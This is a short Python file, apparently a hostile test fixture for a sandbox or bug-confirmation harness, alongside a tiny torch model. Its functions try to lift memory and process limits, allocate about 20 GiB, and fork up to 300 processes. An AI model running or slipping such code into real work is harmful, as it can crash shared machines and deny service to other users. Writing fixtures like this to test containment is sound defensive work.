"""Hostile: raise the limits, then take memory and processes."""
import os
import resource
import time

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(4, 2)

    def forward(self, x):
        return self.fc(x)



def hog(model: Net, x):
    for limit in (resource.RLIMIT_AS, resource.RLIMIT_NPROC):
        try:
            resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (ValueError, OSError):
            pass
    block = bytearray(20 << 30)
    for i in range(0, 3 << 30, 4096):
        block[i] = 1
    return model(x).numpy()


def swarm(model: Net, x):
    started = 0
    for _ in range(300):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        started += 1
    if started >= 0:
        raise RuntimeError(f"started {started} processes")
    return model(x).numpy()


def predict(model: Net, x):
    # The real bug beside the attack: it must stay confirmed.
    return model(x).numpy()

